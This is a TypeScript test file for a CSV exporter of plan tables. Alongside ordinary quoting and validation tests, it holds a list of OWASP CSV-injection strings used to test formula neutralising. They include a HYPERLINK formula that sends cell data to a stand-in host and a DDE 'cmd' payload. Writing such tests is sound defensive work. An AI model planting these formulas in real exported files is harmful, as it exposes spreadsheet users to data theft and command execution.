import type { Plan } from "@parcomms/core";
import { csvParseRows } from "d3-dsv";
import { describe, expect, it } from "vitest";
import { errorOf, plan003 } from "./_testing";
import { plansFromTables } from "./plansFromTables";
import { planTables } from "./planTables";
import type { Table } from "./Table";
import { tablesFromCsv } from "./tablesFromCsv";
import { tablesToCsv } from "./tablesToCsv";

const sample: Table = {
  name: "sample",
  description: "Cells of every type.",
  columns: [
    { name: "text", type: "string", description: "", nullable: true },
    { name: "count", type: "integer", description: "", nullable: true },
    { name: "value", type: "number", description: "", nullable: true },
    { name: "flag", type: "boolean", description: "", nullable: true },
    { name: "parts", type: "json", description: "", nullable: true },
  ],
  rows: [
    ["Sơn Mầu", 1, 0.1, true, '["a","b"]'],
    ["", 0, -0, false, "{}"],
    [null, null, null, null, null],
    ['Quý IV/2023, "Thường xuyên"\nvà', -12, 1e21, true, '{"raw":"a,b"}'],
  ],
};

describe("tablesToCsv", () => {
  it("writes one file per table, named after it, with a header of column names (003_c2f82bd70c212939.txt:181–186)", () => {
    const files = tablesToCsv(planTables([plan003]));
    expect(Object.keys(files)).toEqual([
      "plans.csv",
      "content_items.csv",
      "forms_items.csv",
      "activities.csv",
      "subtasks.csv",
      "activity_themes.csv",
      "activity_channels.csv",
      "activity_audiences.csv",
      "offices.csv",
      "assignee_groups.csv",
      "activity_offices.csv",
      "targets.csv",
      "references.csv",
      "escalation.csv",
      "tasks.csv",
    ]);
    expect(files["activity_themes.csv"]?.split("\n").slice(0, 4)).toEqual([
      "plan_id,activity_id,subtask_id,position,theme_code",
      "003_c2f82bd70c212939,a-assignment-VI.1,a-assignment-VI.1.2,0,procedures.control",
      "003_c2f82bd70c212939,a-assignment-VI.1,a-assignment-VI.1.2,1,results",
      "003_c2f82bd70c212939,a-assignment-VI.1,a-assignment-VI.1.2,2,online-services.payment",
    ]);
  });

  it("writes null as an empty cell, the empty string as a quoted one, and quotes only where RFC 4180 needs it", () => {
    expect(tablesToCsv({ sample })).toEqual({
      "sample.csv": [
        "text,count,value,flag,parts",
        'Sơn Mầu,1,0.1,true,"[""a"",""b""]"',
        '"",0,-0,false,{}',
        ",,,,",
        '"Quý IV/2023, ""Thường xuyên""\nvà",-12,1e+21,true,"{""raw"":""a,b""}"',
        "",
      ].join("\n"),
    });
  });

  it("keeps NFC and NFD spellings of one word apart", () => {
    const nfd = "Sơn Mầu".normalize("NFD");
    const text = tablesToCsv({ sample: { ...sample, rows: [[nfd, null, null, null, null]] } })["sample.csv"];
    expect(text).toBe(`text,count,value,flag,parts\n${nfd},,,,\n`);
    expect(text).not.toContain("Sơn Mầu");
  });

  it("reports a row of the wrong length", () => {
    expect(errorOf(() => tablesToCsv({ sample: { ...sample, rows: [["a", 1]] } }))).toEqual({
      code: "table.bad-row",
      file: "sample.csv",
      row: 1,
      message: "table.bad-row: sample.csv, row 1: has 2 cells for 5 columns",
    });
  });

  it("reports cells that do not fit their column, and text UTF-8 cannot carry", () => {
    expect(
      errorOf(() => tablesToCsv({ sample: { ...sample, rows: [["a", 1.5, null, null, null]] } })),
    ).toEqual({
      code: "table.bad-cell",
      file: "sample.csv",
      row: 1,
      column: "count",
      message: 'table.bad-cell: sample.csv, row 1, column "count": expected an integer, got 1.5',
    });
    expect(
      errorOf(() => tablesToCsv({ sample: { ...sample, rows: [["a\uD800", null, null, null, null]] } })),
    ).toEqual({
      code: "table.bad-cell",
      file: "sample.csv",
      row: 1,
      column: "text",
      message:
        'table.bad-cell: sample.csv, row 1, column "text": text with a lone surrogate, which UTF-8 cannot carry',
    });
    const strict = { ...sample, columns: sample.columns.map((c) => ({ ...c, nullable: false })) };
    expect(errorOf(() => tablesToCsv({ sample: { ...strict, rows: [["a", 1, 2, true, null]] } }))).toEqual({
      code: "table.bad-cell",
      file: "sample.csv",
      row: 1,
      column: "parts",
      message: 'table.bad-cell: sample.csv, row 1, column "parts": null in a column that is never null',
    });
  });
});

/** Texts a spreadsheet would run (OWASP "CSV injection"), and two that only look alike. */
const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"Xem")',
  "+84 912 345 678",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\tTuyên truyền",
  "\rTuyên truyền",
  "-2",
  "'=SUM(1,2) viết sẵn dấu nháy",
];

/** 003 with its title, first office names and first activities' titles and sub-task texts starting with each of FORMULAS. */
function hostilePlan(): Plan {
  const plan = structuredClone(plan003);
  plan.title = `${FORMULAS[0]} ${plan.title}`;
  plan.offices.forEach((office, i) => {
    office.name = `${FORMULAS[i % FORMULAS.length]}${office.name}`;
  });
  plan.activities.forEach((activity, i) => {
    activity.title = `${FORMULAS[(i + 1) % FORMULAS.length]}${activity.title}`;
    activity.subtasks?.forEach((subtask, j) => {
      subtask.text = `${FORMULAS[(i + j + 2) % FORMULAS.length]}${subtask.text}`;
    });
  });
  return plan;
}

describe("tablesToCsv and formula cells", () => {
  it('with formulas: "neutralise", no text cell starts with a formula character, and tablesFromCsv gives the plan back', () => {
    const plan = hostilePlan();
    const files = tablesToCsv(planTables([plan]), { formulas: "neutralise" });
    const cells = Object.values(files).flatMap((text) => csvParseRows(text).flat());
    // Every hostile start is there, each behind its apostrophe.
    for (const formula of FORMULAS.slice(0, 7))
      expect(cells.some((c) => c.startsWith(`'${formula}`))).toBe(true);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(plansFromTables(tablesFromCsv(files))).toStrictEqual([plan]);
  });

  it("by default writes text as it is for pandas, R and DuckDB (-2 and +84 … unchanged) and reads it back exactly", () => {
    const plan = hostilePlan();
    const files = tablesToCsv(planTables([plan]));
    const offices = csvParseRows(files["offices.csv"] ?? "");
    const name = offices[0]?.indexOf("name") ?? -1;
    expect(offices.slice(1, 9).map((row) => row[name])).toEqual([
      ...FORMULAS.slice(0, 7).map((formula, i) => `${formula}${plan003.offices[i]?.name}`),
      // The one text that starts with an apostrophe then a formula start gets one more, so the reader can tell.
      `'${FORMULAS[7]}${plan003.offices[7]?.name}`,
    ]);
    expect(plansFromTables(tablesFromCsv(files))).toStrictEqual([plan]);
  });
});
